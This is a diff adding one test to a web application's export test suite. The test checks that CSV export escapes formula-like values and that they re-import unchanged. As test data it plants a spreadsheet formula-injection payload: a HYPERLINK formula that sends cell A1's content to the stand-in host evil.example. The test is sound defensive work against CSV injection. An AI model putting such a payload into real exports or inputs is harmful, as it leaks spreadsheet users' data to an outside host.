@@ -265,6 +265,23 @@ describe('export', () => {
     expect(v.json()).toMatchObject({ status: 'valid', result: { willCreate: 0, willUpdate: 2 } });
   });
 
+  it('exports a work named like a formula as text in CSV (no live formula), and it imports back unchanged', async () => {
+    const prefix = uniqueCode('INJ');
+    const name = '=HYPERLINK("http://evil.example/?q="&A1,"点我")';
+    await givenWork(t.app, manager, { code: `${prefix}-1`, name, address: '@SUM(1+1)' });
+    const res = await call(t.app, manager, { method: 'GET', url: `/api/works/export?format=csv&q=${encodeURIComponent(prefix)}` });
+    expect(res.statusCode).toBe(200);
+    const body = res.body.replace(/^\uFEFF/, '');
+    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""点我"")"`);
+    expect(body).toContain(`'@SUM(1+1)`);
+    expect(body.split(/\r\n/).flatMap((line) => line.split(',')).filter((c) => /^"?[=+\-@\t\r]/.test(c))).toEqual([]);
+    const v = await upload(manager, 'injection.csv', res.rawPayload);
+    expect(v.json()).toMatchObject({ status: 'valid', result: { willCreate: 0, willUpdate: 1 } });
+    expect((await commit(manager, v.json().id)).json().status).toBe('committed');
+    const stored = (await t.db.query<{ name: string; address: string }>('SELECT name, address FROM work WHERE code = $1', [`${prefix}-1`])).rows[0]!;
+    expect(stored).toEqual({ name, address: '@SUM(1+1)' });
+  });
+
   it('exports GeoJSON and CSV that parse back without errors; county users export their county only', async () => {
     const { q, two } = await givenExportable();
     const gj = await call(t.app, manager, { method: 'GET', url: `/api/works/export?format=geojson&q=${q}` });
